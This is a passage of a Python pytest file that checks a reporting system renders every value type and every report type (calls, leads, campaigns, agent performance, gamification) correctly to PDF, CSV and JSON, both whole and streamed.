    return ReportResult("Values", [], [SummaryFigure("The value", case.value, case.kind)], columns,
                        [("in main", case.value)], [],
                        [Table("further", "Further", columns, [("in further", case.value)])])


@pytest.mark.parametrize("case", VALUES.values(), ids=VALUES.keys())
def test_csv_writes_each_value_the_types_produce(case: Value) -> None:
    assert parse_csv(render_csv(value_result(case))) == [["Where", "Value"], ["in main", case.csv]]


@pytest.mark.parametrize("case", VALUES.values(), ids=VALUES.keys())
async def test_json_writes_and_reads_back_each_value_the_types_produce(case: Value) -> None:
    # given
    result = value_result(case)
    # when
    data = render_json(result)
    # then it is written as the JSON value expected, of its JSON type, everywhere it occurs
    document = orjson.loads(data)
    for written in (document["summary"][0]["value"], document["rows"][0]["value"],
                    document["tables"][0]["rows"][0]["value"]):
        assert written == case.json
        assert type(written) is type(case.json)
    assert b"".join(await collect(stream_json(replace(result, rows=[]), chunks_of(result.rows)))) == data
    # and read back as the value (money as a float), naive or with the same offset
    parsed = parse_json(data)
    for read in (parsed.summary[0].value, parsed.rows[0][1], parsed.tables[0].rows[0][1]):
        assert read == case.parsed
        assert type(read) is type(case.parsed)
        if isinstance(read, datetime):
            assert isinstance(case.value, datetime)
            assert read.utcoffset() == case.value.utcoffset()
    if isinstance(case.value, Decimal):
        assert Decimal(repr(parsed.rows[0][1])) == case.value


@pytest.mark.parametrize("case", VALUES.values(), ids=VALUES.keys())
def test_pdf_shows_each_value_the_types_produce(case: Value) -> None:
    data = render_pdf(value_result(case), max_rows=10)

    lines = pdf_lines(pdf_pages_text(data))
    # a summary card shows the value under its label, "—" for none; a table cell the value, empty for none
    assert lines[lines.index("The value") + 1] == (case.pdf or "—")
    assert f"in main {case.pdf}".rstrip() in lines
    assert f"in further {case.pdf}".rstrip() in lines
    assert "None" not in "\n".join(lines)


# --- real results of every report type (the hand-built Berlin week, tests/reports/conftest.py) -------------------

WEEK: Final = {"from": "2026-03-02", "to": "2026-03-08"}
# report type, parameters, the further tables it has
REAL_REPORTS: Final = {
    "lead": (ReportType.LEAD, {}, ["scores", "aging"]),
    "call": (ReportType.CALL, {}, ["by_hour", "by_weekday", "outcomes", "dispositions"]),
    # aware local datetimes in the main table
    "call-by-hour": (ReportType.CALL, {"grouping": "HOUR"}, ["by_hour", "by_weekday", "outcomes", "dispositions"]),
    "campaign": (ReportType.CAMPAIGN, {}, []),
    "campaign-by-day": (ReportType.CAMPAIGN, {"grouping": "DAY"}, ["campaigns"]),
    "agent_performance": (ReportType.AGENT_PERFORMANCE, {}, []),
    "gamification": (ReportType.GAMIFICATION, {}, ["badges", "progress"]),
    # naive local datetimes and Decimal costs, rows streamed
    "call_detail": (ReportType.CALL_DETAIL, {}, []),
}


async def real_result(sessions: Sessions, report_type: ReportType,
                      params: dict[str, object]) -> tuple[ReportResult, list[Sequence[Row]]]:
    """The report as an admin runs it, and its rows in the chunks the worker stores them in (call detail's
    streamed from their cursor, 4 at a time)."""
    db = sessions.session()
    try:
        access = await sessions.access(db, "admin")
        parsed = params_from_json(report_type, {"range": WEEK, **params})
        result = await run_report(db, access, TIMEZONE, report_type, parsed)
        if not REGISTRY[report_type].streams_rows:
            return result, [result.rows[start:start + 4] for start in range(0, len(result.rows), 4)]
        chunks = [chunk async for chunk in call_detail_rows(db, access, TIMEZONE, parsed, chunk_rows=4)]
        return replace(result, rows=[row for chunk in chunks for row in chunk]), chunks
    finally:
        await db.close(commit=False)


def decimals_as_floats(result: ReportResult) -> ReportResult:
    """The result as JSON gives it back: money held as a Decimal is a JSON number, read as a float."""
    def rows(source: Sequence[Row]) -> list[Row]:
        return [tuple(float(v) if isinstance(v, Decimal) else v for v in row) for row in source]
    return replace(result, rows=rows(result.rows), tables=[replace(t, rows=rows(t.rows)) for t in result.tables])


async def chunks(source: Sequence[Sequence[Row]]) -> AsyncIterator[Sequence[Row]]:
    for chunk in source:
        yield chunk


@pytest.mark.parametrize(("report_type", "params", "tables"), REAL_REPORTS.values(), ids=REAL_REPORTS.keys())
async def test_a_real_result_of_every_report_type_renders_to_pdf_csv_and_json(
    sessions: Sessions, report_type: ReportType, params: dict[str, object], tables: list[str]
) -> None:
    # given the report run on the fixture's week
    result, stored = await real_result(sessions, report_type, params)
    assert result.rows
    assert [t.key for t in result.tables] == tables
    # when it is rendered to PDF
    pdf = render_pdf(result, max_rows=DEFAULT_REPORT_PDF_MAX_ROWS)
    # then the PDF parses back with the title, every chart, the main table and each further table, in order,
    # each to its last row; and every page has ink
    pages = pdf_pages_text(pdf)
    text, lines = "\n".join(pages), pdf_lines(pages)
    assert result.title in pages[0]
    for chart in result.charts:
        assert chart.title in lines
    # (a heading may repeat a chart's title, "Score distribution": the heading is its last occurrence)
    headings = [max(n for n, line in enumerate(lines) if line == title)
                for title in [f"{len(result.rows)} rows", *(t.title for t in result.tables)]]
    assert headings == sorted(headings)
    for table, heading in zip(result.tables, headings[1:], strict=True):
        last = table.rows[-1]
        assert display(last[0], table.columns[0].kind) in "\n".join(lines[heading:])
    assert f"page {len(pages)} of {len(pages)}" in pages[-1]
    assert "None" not in text
    assert_every_page_has_ink(pdf)
    # when it is written as CSV, whole and streamed: the main table only
    csv_data = render_csv(result)
    assert b"".join(await collect(stream_csv(result.columns, chunks(stored)))) == csv_data
    parsed_csv = parse_csv(csv_data)
    assert parsed_csv[0] == [c.title for c in result.columns]
    assert len(parsed_csv) == 1 + len(result.rows)
    # when it is written as JSON, whole and streamed from the stored chunks (the head without rows)
    json_data = render_json(result)
    assert b"".join(await collect(stream_json(replace(result, rows=[]), chunks(stored)))) == json_data
    # then it reads back as the result, further tables and charts' tables included
    parsed = parse_json(json_data)
    assert parsed == decimals_as_floats(result)
    assert [c.table for c in parsed.charts] == [c.table for c in result.charts]
    assert parsed.tables == result.tables
